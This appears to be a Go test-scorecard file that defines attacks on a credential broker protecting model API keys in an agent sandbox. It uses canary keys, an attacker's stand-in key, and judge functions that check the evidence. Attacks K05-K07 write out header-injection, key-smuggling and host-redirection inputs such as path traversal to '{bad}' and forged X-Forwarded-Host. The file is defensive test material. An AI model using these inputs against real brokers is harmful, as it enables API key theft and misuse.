package scorecard

import (
	"encoding/hex"
	"encoding/json"
	"slices"
	"strings"
)

// Routes are the APIs of models that settings have keys for, each at Provider of it.
func Routes() []string { return []string{"anthropic", "openai", "gemini"} }

// Provider is the host that an API is at.
func Provider(route string) string { return route + ".model.test" }

// Key is the key for an API that people give to a setting: it must not be found in any, nor arrive but at its provider.
func Key(route string) string { return "sk-canary-" + route + "-4b7d2a90c61e" }

// keyVariable is where people put it.
func keyVariable(route string) string { return strings.ToUpper(route) + "_API_KEY" }

// keyVariables are the keys as people give them to a container.
func keyVariables() (env []string) {
	for _, r := range Routes() {
		env = append(env, keyVariable(r)+"="+Key(r))
	}
	return env
}

// Brokered is a policy.yaml that leads to the providers by the broker.
func Brokered() string {
	out := "broker:\n"
	for _, r := range Routes() {
		out += "  " + r + ": {to: \"https://" + Provider(r) + "\", credential: [\"file:" + secrets + "/" + r + "\", \"env:" + keyVariable(r) + "\"]}\n"
	}
	return out
}

// Listed are entries of an allowlist that lead to the providers by name.
func Listed() string {
	out := ""
	for _, r := range Routes() {
		out += Provider(r) + "\n"
	}
	return out
}

// secrets is where a container has the key of filed in a file, so that there is one of each kind.
const (
	secrets = "/etc/secrets"
	filed   = "openai"
)

const stranger = "sk-stranger-51c0ffee" // an attacker's own key, for the same API

// hunted are the keys as the operation hunt takes them.
func hunted() string {
	var out []string
	for _, r := range Routes() {
		b := []byte(Key(r))
		slices.Reverse(b)
		out = append(out, hex.EncodeToString(b))
	}
	return strings.Join(out, " ")
}

func keyAttacks() []Attack {
	canary := []string{"TestBroker", "TestCanary"}
	return []Attack{
		{ID: "K01", Title: "the key in an environment or an open file", Try: []string{"hunt -in environ {keys}"}, Won: true, Tests: canary},
		{ID: "K02", Title: "the key in memory", Try: []string{"hunt -in memory {keys}"}, Won: true, Tests: canary},
		{ID: "K03", Title: "the key in a file", Try: []string{"hunt -in files {keys}"}, Won: true, Tests: canary},
		{ID: "K04", Title: "the key in what agent-init says",
			Try: []string{"run {agent-init} status --json", "run {agent-init} status", "run {agent-init} explain {provider}", "run {agent-init} check --json", "run {agent-init} log",
				"run {agent-init} doctor --json", "read {run}/status.json", "read {run}/policy.jsonl", "read {run}/agent.json", "read {run}/metrics.prom"},
			Judge: said, Tests: canary},
		{ID: "K05", Title: "an attacker's key, at the API that is allowed",
			Try: []string{"model -key {stranger} -body '{honest}' anthropic /v1/messages", "model -header 'X-Api-Key: {stranger}' -body '{honest}' anthropic /v1/messages",
				"model -header 'Authorization: Bearer {stranger}' -body '{honest}' anthropic /v1/messages", "model -body '{honest}' anthropic /v1/messages?key={stranger}",
				"model -header 'Anthropic-Workspace-Id: {stranger}' -body '{honest}' anthropic /v1/messages",
				"model -key {stranger} -body '{honest-responses}' openai /v1/responses", "model -header 'Api-Key: {stranger}' -body '{honest-responses}' openai /v1/responses",
				"model -header 'OpenAI-Organization: {stranger}' -body '{honest-responses}' openai /v1/responses",
				"model -key {stranger} -body '{honest-gemini}' gemini /v1beta/models/gemini-x:generateContent",
				"model -body '{honest-gemini}' gemini /v1beta/models/gemini-x:generateContent?key={stranger}",
				"model -header 'X-Goog-User-Project: {stranger}' -body '{honest-gemini}' gemini /v1beta/models/gemini-x:generateContent"},
			Judge: strangerArrives, Tests: []string{"TestKeysOfOthers", "TestStrangersKeys"}},
		{ID: "K06", Title: "the key, sent to another host",
			Try: []string{"model -host {bad} -body '{honest}' anthropic /v1/messages", "model -body '{honest}' anthropic //{bad}/v1/messages", "model -body '{honest}' anthropic /../../{bad}/v1/messages",
				"model -header 'X-Forwarded-Host: {bad}' -body '{honest}' anthropic /v1/messages", "model -body '{honest}' anthropic /v1/messages@{bad}"},
			Judge: keyAstray, Tests: []string{"TestWhoTheServerIs", "TestHeadRefuses"}},
		{ID: "K07", Title: "the broker, asked without the agent's token",
			Try: []string{"model -keyless -body '{honest}' anthropic /v1/messages", "model -key x -body '{honest}' anthropic /v1/messages",
				"model -keyless -header 'Authorization: Bearer' -body '{honest}' anthropic /v1/messages", "model -keyless -body '{honest-gemini}' gemini /v1beta/models/gemini-x:generateContent?key="},
			Judge: keyless, Tests: []string{"TestBroker", "TestWhoMayAsk"}},
	}
}

// said finds a key in what operations said.
func said(e *Evidence) []string {
	for _, s := range e.Said {
		text, _ := json.Marshal(s.Detail) // it came as JSON
		for _, r := range Routes() {
			if strings.Contains(string(text), Key(r)) {
				return []string{"the key in the output of " + strings.Join(s.Args[:min(len(s.Args), 3)], " ")}
			}
		}
	}
	return nil
}

// strangerArrives finds an attacker's key at a provider.
func strangerArrives(e *Evidence) []string {
	for _, r := range e.atProviders() {
		if head, _ := json.Marshal(r.Header); strings.Contains(string(head)+r.URI, stranger) {
			return []string{"a request with the attacker's key, at " + r.Host}
		}
	}
	return nil
}

// keyAstray finds a key at a host that is no provider.
func keyAstray(e *Evidence) []string {
	for _, r := range e.Setting.Lab.Web.Requests() {
		head, _ := json.Marshal(r.Header) // of texts
		for _, route := range Routes() {
			if strings.Contains(string(head)+r.URI+string(r.Body), Key(route)) && (r.SNI != Provider(route) || r.Host != Provider(route)) {
				return []string{"the key, at " + r.Host}
			}
		}
	}
	return nil
}

// keyless finds the key in what somebody asked for who has shown no token.
func keyless(e *Evidence) []string {
	for _, r := range e.atProviders() {
		if head, _ := json.Marshal(r.Header); strings.Contains(string(head), "sk-canary-") {
			return []string{"a request with the key, for who showed no token"}
		}
	}
	return nil
}
